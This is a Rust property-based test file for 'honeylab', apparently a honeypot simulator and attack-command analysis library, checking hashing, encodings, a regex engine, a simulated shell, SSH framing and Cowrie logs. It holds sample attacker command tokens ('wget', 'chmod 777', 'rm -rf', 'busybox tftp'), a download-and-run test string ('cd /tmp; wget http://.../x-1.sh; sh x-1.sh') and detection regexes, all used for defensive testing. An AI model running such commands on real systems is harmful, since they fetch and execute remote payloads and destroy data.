//! Property-based tests over the substrate crates' core invariants.

use honeylab::core::{dld, tokens};
use honeylab::hutil::{base64, Date, Sha256};
use honeylab::netsim::{Ipv4Addr, Prefix};
use honeylab::sregex::Regex;
use proptest::prelude::*;

// ---------------------------------------------------------------- sha256

proptest! {
    #[test]
    fn sha256_streaming_equals_oneshot(data in proptest::collection::vec(any::<u8>(), 0..2048),
                                       split in 0usize..2048) {
        let split = split.min(data.len());
        let mut h = Sha256::new();
        h.update(&data[..split]);
        h.update(&data[split..]);
        prop_assert_eq!(h.finalize(), Sha256::digest(&data));
    }

    #[test]
    fn sha256_is_injective_on_small_perturbations(data in proptest::collection::vec(any::<u8>(), 1..512),
                                                  flip in 0usize..512) {
        let flip = flip.min(data.len() - 1);
        let mut tampered = data.clone();
        tampered[flip] ^= 0x01;
        prop_assert_ne!(Sha256::digest(&data), Sha256::digest(&tampered));
    }
}

// ---------------------------------------------------------------- base64

proptest! {
    #[test]
    fn base64_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..1024)) {
        let enc = base64::encode(&data);
        prop_assert!(enc.len().is_multiple_of(4));
        prop_assert_eq!(base64::decode(&enc).unwrap(), data);
    }

    #[test]
    fn base64_whitespace_insensitive(data in proptest::collection::vec(any::<u8>(), 1..256),
                                     every in 1usize..40) {
        let enc = base64::encode(&data);
        let spaced: String = enc
            .chars()
            .enumerate()
            .flat_map(|(i, c)| {
                if i % every == 0 { vec!['\n', c] } else { vec![c] }
            })
            .collect();
        prop_assert_eq!(base64::decode(&spaced).unwrap(), data);
    }
}

// ---------------------------------------------------------------- dates

proptest! {
    #[test]
    fn date_epoch_roundtrip(days in -200_000i64..200_000) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.to_epoch_days(), days);
        prop_assert!((1..=12).contains(&d.month));
        prop_assert!(d.day >= 1 && d.day <= Date::days_in_month(d.year, d.month));
    }

    #[test]
    fn date_plus_days_is_additive(days in 0i64..100_000, a in -500i64..500, b in -500i64..500) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.plus_days(a).plus_days(b), d.plus_days(a + b));
    }

    #[test]
    fn weekday_cycles_every_seven_days(days in 0i64..100_000) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.weekday(), d.plus_days(7).weekday());
        prop_assert_ne!(d.weekday(), d.plus_days(1).weekday());
    }
}

// ---------------------------------------------------------------- ipv4

proptest! {
    #[test]
    fn ipv4_display_parse_roundtrip(n in any::<u32>()) {
        let ip = Ipv4Addr(n);
        prop_assert_eq!(Ipv4Addr::parse(&ip.to_string()), Some(ip));
    }

    #[test]
    fn prefix_contains_its_addresses(base in any::<u32>(), len in 8u8..=32, i in any::<u64>()) {
        let p = Prefix::new(Ipv4Addr(base), len);
        let addr = p.nth(i % p.num_addrs());
        prop_assert!(p.contains(addr));
        // Deaggregated /24s tile exactly the same address count for /<=24.
        if len <= 24 {
            prop_assert_eq!(p.deaggregated_24s() * 256, p.num_addrs());
        }
    }
}

// ------------------------------------------------------------ token DLD

fn token_seq() -> impl Strategy<Value = Vec<String>> {
    proptest::collection::vec(
        proptest::sample::select(vec![
            "cd", "/tmp", "wget", "<URL>", "chmod", "777", "sh", "<NAME>", "rm", "-rf", "uname",
            "-a", "echo", "ok", "busybox", "tftp",
        ])
        .prop_map(str::to_string),
        0..24,
    )
}

proptest! {
    #[test]
    fn dld_is_a_metric(a in token_seq(), b in token_seq(), c in token_seq()) {
        // identity
        prop_assert_eq!(dld::dld(&a, &a), 0);
        // symmetry
        prop_assert_eq!(dld::dld(&a, &b), dld::dld(&b, &a));
        // triangle inequality (OSA satisfies it)
        prop_assert!(dld::dld(&a, &c) <= dld::dld(&a, &b) + dld::dld(&b, &c));
        // length bound
        prop_assert!(dld::dld(&a, &b) <= a.len().max(b.len()));
    }

    #[test]
    fn normalized_dld_is_bounded(a in token_seq(), b in token_seq()) {
        let d = dld::normalized_dld(&a, &b);
        prop_assert!((0.0..=1.0).contains(&d));
        if a == b {
            prop_assert_eq!(d, 0.0);
        }
    }

    #[test]
    fn single_edit_costs_at_most_one(a in token_seq(), ins in 0usize..24) {
        if !a.is_empty() {
            let mut b = a.clone();
            b.insert(ins.min(a.len()), "x".to_string());
            prop_assert_eq!(dld::dld(&a, &b), 1);
        }
    }
}

// ---------------------------------------------------------------- sregex

/// Strings of benign command-ish characters.
fn cmd_string() -> impl Strategy<Value = String> {
    proptest::string::string_regex("[a-z0-9 ./;|-]{0,64}").expect("valid generator regex")
}

proptest! {
    #[test]
    fn literal_patterns_match_themselves(s in "[a-z0-9]{1,24}") {
        let re = Regex::new(&s).unwrap();
        prop_assert!(re.is_match(&s));
        let embedded = format!("prefix {s} suffix");
        prop_assert!(re.is_match(&embedded));
        prop_assert_eq!(re.find(&s), Some((0, s.len())));
    }

    #[test]
    fn find_span_is_valid_and_rematches(hay in cmd_string()) {
        // A fixed selection of Table 1-style patterns.
        for pat in [r"\d+", r"[a-z]{3}", r"wget|curl", r"(?=.*sh)(?=.*/tmp)", r"\bok\b"] {
            let re = Regex::new(pat).unwrap();
            if let Some((s, e)) = re.find(&hay) {
                prop_assert!(s <= e && e <= hay.len());
                // The matched substring must itself match (anchored check
                // via a fresh search on the slice).
                if s < e {
                    prop_assert!(re.is_match(&hay[s..]), "suffix must still match");
                }
            }
        }
    }

    #[test]
    fn dotstar_wrap_matches_iff_contains(hay in cmd_string(), needle in "[a-z]{2,6}") {
        let re = Regex::new(&format!("(?=.*{needle})")).unwrap();
        // Haystack has no newlines, so the conjunction shortcut and plain
        // containment agree exactly.
        prop_assert_eq!(re.is_match(&hay), hay.contains(&needle));
    }

    #[test]
    fn classifier_never_panics_on_arbitrary_input(hay in proptest::string::string_regex(".{0,200}").expect("valid")) {
        let cl = honeylab::core::classify::Classifier::table1();
        let _ = cl.classify(&hay);
    }
}

// ------------------------------------------------------------- tokenize

proptest! {
    #[test]
    fn tokenize_never_produces_empty_tokens(s in ".{0,200}") {
        for t in tokens::tokenize(&s) {
            prop_assert!(!t.is_empty());
        }
    }

    #[test]
    fn signature_is_idempotent_under_ip_churn(a in 1u8..250, b in 1u8..250) {
        let s1 = format!("cd /tmp; wget http://{a}.0.0.1/x-1.sh; sh x-1.sh");
        let s2 = format!("cd /tmp; wget http://{b}.9.9.9/y-2.sh; sh y-2.sh");
        prop_assert_eq!(tokens::signature(&s1), tokens::signature(&s2));
    }
}

// ------------------------------------------------------ packet framing

proptest! {
    #[test]
    fn ssh_packet_roundtrip(payload in proptest::collection::vec(any::<u8>(), 0..2048),
                            with_mac in any::<bool>(),
                            key in any::<[u8; 32]>()) {
        use honeylab::sshwire::packet::PacketCodec;
        let mut tx = PacketCodec::new();
        let mut rx = PacketCodec::new();
        if with_mac {
            tx.enable_integrity(key);
            rx.enable_integrity(key);
        }
        let mut wire = Vec::new();
        tx.seal(&mut wire, |b| b.extend_from_slice(&payload));
        let (got, len) = rx.open(&wire).unwrap().expect("complete packet");
        prop_assert_eq!(got, &payload[..]);
        prop_assert_eq!(len, wire.len());
    }
}

// ------------------------------------------------------------------ vfs

proptest! {
    #[test]
    fn vfs_resolve_is_idempotent(path in "[a-z0-9./~]{1,48}") {
        let v = honeylab::honeypot::Vfs::new();
        let once = v.resolve(&path);
        prop_assert_eq!(v.resolve(&once), once.clone());
        prop_assert!(once.starts_with('/'));
        prop_assert!(!once.contains("//"));
        prop_assert!(!once.split('/').any(|seg| seg == ".." || seg == "."));
    }

    #[test]
    fn vfs_write_read_roundtrip(name in "[a-z]{1,12}", content in proptest::collection::vec(any::<u8>(), 0..256)) {
        let mut v = honeylab::honeypot::Vfs::new();
        let path = format!("/tmp/{name}");
        let (p, hash, _) = v.write(&path, &content);
        prop_assert_eq!(&p, &path);
        prop_assert_eq!(v.read(&path).unwrap(), &content[..]);
        prop_assert_eq!(hash, Sha256::hex_digest(&content));
    }
}

// ---------------------------------------------------------------- shell

proptest! {
    #[test]
    fn shell_never_panics_on_arbitrary_lines(line in ".{0,160}") {
        let store = honeylab::honeypot::shell::NullStore;
        let mut sh = honeylab::honeypot::Shell::new(&store);
        let _ = sh.exec_line(&line);
    }

    #[test]
    fn shell_file_events_are_absolute_paths(cmds in proptest::collection::vec("[a-z0-9 ./;>-]{1,40}", 1..6)) {
        let store = honeylab::honeypot::shell::NullStore;
        let mut sh = honeylab::honeypot::Shell::new(&store);
        for c in &cmds {
            sh.exec_line(c);
        }
        for e in sh.file_events() {
            prop_assert!(e.path.starts_with('/'), "relative path leaked: {}", e.path);
        }
    }

    #[test]
    fn session_sim_total_function(line in "[ -~]{0,120}", pw in "[a-z0-9]{1,12}") {
        use honeylab::honeypot::{AuthPolicy, SessionInput, SessionSim};
        let store = honeylab::honeypot::shell::NullStore;
        let sim = SessionSim::new(
            AuthPolicy::default(),
            &store,
            honeylab::netsim::latency::LatencyModel::new(1),
        );
        let rec = sim.run(SessionInput {
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1000,
            protocol: honeylab::honeypot::Protocol::Ssh,
            start: Date::new(2022, 1, 1).at_midnight(),
            client_version: None,
            logins: vec![("root".to_string(), pw.clone())],
            commands: vec![line],
            idle_out: false,
        });
        prop_assert!(rec.end > rec.start);
        prop_assert_eq!(rec.login_succeeded(), pw != "root");
    }
}

// ------------------------------------------------------------- cowrie log

proptest! {
    #[test]
    fn cowrie_log_roundtrips_commands(input in "[ -~]{1,80}") {
        use honeylab::honeypot::{from_cowrie_log, to_cowrie_log, CommandRecord, LoginAttempt,
                                 Protocol, SessionEndReason, SessionRecord};
        let rec = SessionRecord {
            session_id: 1,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 3,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 1, 1).at(1, 2, 3),
            end: Date::new(2022, 1, 1).at(1, 2, 33),
            end_reason: SessionEndReason::ClientClose,
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![LoginAttempt { username: "root".into(), password: "x".into(), success: true }],
            commands: vec![CommandRecord { input: input.clone(), known: true }],
            uris: vec![],
            file_events: vec![],
        };
        let log = to_cowrie_log(std::slice::from_ref(&rec));
        let back = from_cowrie_log(&log).unwrap();
        prop_assert_eq!(&back[0].commands[0].input, &input);
    }

    #[test]
    fn json_roundtrips_arbitrary_strings(s in ".{0,60}") {
        let v = hutil::Json::str(s.clone());
        prop_assert_eq!(hutil::Json::parse(&v.render()).unwrap(), v);
    }
}

// --------------------------------------------------------------- stats

proptest! {
    #[test]
    fn boxplot_orders_quartiles(values in proptest::collection::vec(0.0f64..1e6, 1..200)) {
        let s = honeylab::hutil::stats::BoxplotSummary::from_values(&values).unwrap();
        prop_assert!(s.min <= s.q1 && s.q1 <= s.median);
        prop_assert!(s.median <= s.q3 && s.q3 <= s.max);
        prop_assert!(s.mean >= s.min && s.mean <= s.max);
        prop_assert_eq!(s.n, values.len());
    }

    #[test]
    fn ratios_always_sum_to_one_or_zero(counts in proptest::collection::vec(0u64..10_000, 1..20)) {
        let r = honeylab::hutil::stats::ratios(&counts);
        let sum: f64 = r.iter().sum();
        if counts.iter().sum::<u64>() == 0 {
            prop_assert_eq!(sum, 0.0);
        } else {
            prop_assert!((sum - 1.0).abs() < 1e-9);
        }
    }
}
